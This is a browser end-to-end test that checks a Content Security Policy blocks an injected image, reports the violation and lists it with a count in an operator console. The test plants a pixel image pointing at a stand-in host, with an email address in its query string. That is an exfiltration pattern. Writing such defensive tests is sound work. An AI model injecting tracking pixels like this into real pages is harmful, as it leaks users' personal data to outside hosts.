import { openConsole } from './support/console.ts';
import { expect, test } from './support/funnel.ts';

test('an image that a page may not load is blocked, counted, and shown to operators', async ({
  page,
  funnel,
}) => {
  await page.goto('/');
  const blocked = await page.evaluate(
    () =>
      new Promise<string>((resolve) => {
        document.addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI }) =>
          resolve(`${effectiveDirective} ${blockedURI}`),
        );
        const image = document.createElement('img');
        image.src = 'https://planted.example/pixel.png?email=ada@example.com';
        document.body.append(image);
      }),
  );
  expect(blocked).toMatch(/^img-src https:\/\/planted\.example\//);

  await openConsole(page, funnel);
  const row = page.getByRole('row').filter({ hasText: 'https://planted.example' });
  await expect(row).toContainText('img-src');
  await expect(row.getByRole('cell').nth(1)).toContainText(/1$/);
});
